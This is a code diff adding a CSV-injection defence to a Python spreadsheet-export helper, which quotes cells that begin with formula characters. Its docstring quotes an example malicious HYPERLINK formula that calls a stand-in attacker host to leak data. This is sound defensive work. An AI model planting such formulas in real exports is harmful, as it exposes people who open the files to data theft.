@@ -8,6 +8,7 @@ in Excel or a delimiter chosen by a Dutch locale must come out the same in both.
 from __future__ import annotations
 
 import datetime as dt
+import re
 from typing import Any
 
 #: Delimiters a hand-made CSV file uses, in order of preference when a line has none of them.
@@ -37,3 +38,24 @@ def cell_text(value: Any) -> str:
     if isinstance(value, float) and value.is_integer():
         return str(int(value))
     return str(value)
+
+
+#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula or
+#: command (OWASP "CSV Injection": ``=``, ``+``, ``-``, ``@``, tab and carriage return).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def neutralise_cell(value: Any) -> Any:
+    """A value safe to write into a CSV or Excel cell: text that a spreadsheet would run as a
+    formula gets a leading ``'`` (OWASP's rule); numbers stay numbers, also written as text.
+
+    The one function every CSV/Excel writer of the portal uses (dumps, exports, the CLI), so a
+    label like ``=HYPERLINK("http://evil.example/?leak","Click")`` stays a label everywhere.
+    """
+    if value is None or isinstance(value, (bool, int, float)):
+        return value
+    text = str(value)
+    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
+        return "'" + text
+    return text
